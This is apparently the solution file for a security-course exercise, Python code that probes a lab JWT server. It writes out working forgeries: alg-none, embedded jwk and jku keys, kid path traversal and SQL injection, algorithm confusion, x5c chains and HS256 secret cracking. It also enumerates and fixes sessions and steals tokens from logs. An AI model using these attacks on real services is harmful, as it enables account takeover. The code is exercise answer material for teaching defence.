"""Exercise 23 · Find the flaws in a black box (solution).

Probes every endpoint a flaw can sit on with each attack of chapter 09, most permissive first,
and claims only what worked: so it scores full marks on any seed, and claims nothing on the
hardened build.
"""

import re
from urllib.parse import parse_qs, urlsplit

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from jwt.algorithms import ECAlgorithm

from labserver.capstone import Finding, Request
from labserver.experiments.attacks import KID_SQL_INJECTION, Attacker, crack_hs256, words
from labserver.forge import encode_unsigned, hs256_with_key_bytes, tamper
from labserver.x5c import self_made_chain

BEARER_ENDPOINTS = ("/api/profile", "/api/orders", "/api/admin/report")
HEADER = {"typ": "at+jwt"}


def _no_verify(a, mine, claims):
    return tamper(mine, roles=["admin"])


def _alg_none(a, mine, claims):
    return encode_unsigned({"alg": "none", **HEADER}, claims)


def _jwk_header(a, mine, claims):
    key = ec.generate_private_key(ec.SECP256R1())
    jwk = ECAlgorithm.to_jwk(key.public_key(), as_dict=True)
    return jwt.encode(claims, key, algorithm="ES256", headers={**HEADER, "kid": "mine", "jwk": jwk})


def _jku(a, mine, claims):
    key = ec.generate_private_key(ec.SECP256R1())
    jwks = {"keys": [{**ECAlgorithm.to_jwk(key.public_key(), as_dict=True), "kid": "mine"}]}
    hosted = (
        a.client().post("/api/files", json=jwks, headers={"Authorization": f"Bearer {mine}"}).json()
    )
    headers = {**HEADER, "kid": "mine", "jku": hosted.get("url", "")}
    return jwt.encode(claims, key, algorithm="ES256", headers=headers)


def _kid_path(a, mine, claims):
    known = a.client().get("/pages/help.txt").content  # a file whose bytes anyone can read
    return hs256_with_key_bytes({**HEADER, "kid": "../pages/help.txt"}, claims, known)


def _alg_confusion(a, mine, claims):
    keys = a.client().get("/.well-known/jwks.json").json()["keys"]
    rsa_jwk = next(k for k in keys if k.get("alg") == "RS256")
    pem = jwt.PyJWK(rsa_jwk).key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    return hs256_with_key_bytes({**HEADER, "kid": rsa_jwk["kid"]}, claims, pem)


def _kid_sql(a, mine, claims):
    # the kid ends the key query's string and appends a SELECT of a secret of our choosing
    return hs256_with_key_bytes({**HEADER, "kid": KID_SQL_INJECTION}, claims, b"known-secret")


def _x5c(a, mine, claims):
    leaf_key, chain = self_made_chain(claims["iat"])  # our own CA, valid around lab time
    return jwt.encode(claims, leaf_key, algorithm="ES256", headers={**HEADER, "x5c": chain})


#: The most permissive first: an endpoint that checks no signature takes every forgery.
FORGERIES = (
    ("no-verify", _no_verify),
    ("alg-none", _alg_none),
    ("jwk-header", _jwk_header),
    ("jku", _jku),
    ("kid-path", _kid_path),
    ("alg-confusion", _alg_confusion),
    ("kid-sql", _kid_sql),
    ("x5c", _x5c),
)


def _admin(a, path, token):
    status, body = a.call(path, token)
    return status == 200 and "admin" in body.get("roles", [])


def token_findings(a):
    """Each bearer endpoint against each forgery, and the token endpoint's HS256 secret."""
    mine = a.token("bob", path="/token")
    claims = a.claims(mine, roles=["admin"])
    found = []
    for path in BEARER_ENDPOINTS:
        for flaw, forge in FORGERIES:
            token = forge(a, mine, claims)
            if _admin(a, path, token):
                found.append(Finding(path, flaw, token))
                break
    hs256 = a.token("bob", path="/token", alg="HS256")
    secret = crack_hs256(hs256, words())
    if secret is not None:
        kid = jwt.get_unverified_header(hs256)["kid"]
        forged = hs256_with_key_bytes(
            {**HEADER, "kid": kid}, a.claims(hs256, roles=["admin"]), secret.encode()
        )
        if _admin(a, "/api/admin/report", forged):
            found.append(Finding("/token", "weak-secret", forged))
    return found


def _login(a, http=None):
    http = http or a.client()
    answer = http.post("/login", json={"username": "bob", "password": "builder"})
    return answer.cookies.get("sid", "")


def session_findings(a):
    """Consecutive session IDs (then count down to carol's), or a login that keeps a planted ID."""
    first, second = _login(a), _login(a)
    if first.isdigit() and second == str(int(first) + 1):
        for guess in range(int(first) - 1, max(int(first) - 2000, -1), -1):
            probe = Request("GET", "/account", cookies={"sid": str(guess)})
            answer = a.client().get("/account", cookies=probe.cookies)
            if answer.status_code == 200 and answer.json().get("user") == "carol":
                return [Finding("/login", "predictable-session", probe)]
    browser = a.client()
    planted = browser.get("/cart").cookies.get("sid", "")
    if planted and _login(a, browser) == planted:
        fresh = a.client().get("/cart").cookies.get("sid", "")  # a new one, for carol
        return [
            Finding(
                "/login", "session-fixation", Request("GET", "/account", cookies={"sid": fresh})
            )
        ]
    return []


def _refresh_token(a):
    answer = a.client().post("/token", json={"username": "bob", "password": "builder"})
    return answer.json()["refresh_token"]


def refresh_findings(a):
    """carol's expired token (the incident report quotes it) with a refresh token of bob's."""
    leaked = re.search(r"eyJ[\w-]*\.[\w-]*\.[\w-]*", a.client().get("/pages/incident.txt").text)
    if leaked is None:
        return []

    def redeem(refresh_token):
        body = {"refresh_token": refresh_token, "access_token": leaked.group()}
        return Request("POST", "/token/refresh", json=body)

    probe = redeem(_refresh_token(a))
    answer = a.client().post(probe.path, json=probe.json)
    if answer.status_code == 200 and a.claims(answer.json()["access_token"])["sub"] == "carol":
        return [Finding("/token/refresh", "unbound-refresh", redeem(_refresh_token(a)))]
    return []


def url_findings(a):
    """A whole token of carol's in a URL of the access log, which the endpoint accepted."""
    for line in reversed(a.client().get("/logs/access", params={"n": 200}).json()["lines"]):
        method, url, status = line.split(" ")
        stolen = parse_qs(urlsplit(url).query).get("access_token", [""])[0]
        if status == "200" and stolen and _admin(a, "/api/admin/report", stolen):
            return [Finding(urlsplit(url).path, "token-in-url", stolen)]
    return []


def findings(target):
    """Every flaw of ``target`` (lab.capstone) this probe could exploit, with its exploit."""
    a = Attacker(target)
    return token_findings(a) + refresh_findings(a) + url_findings(a) + session_findings(a)
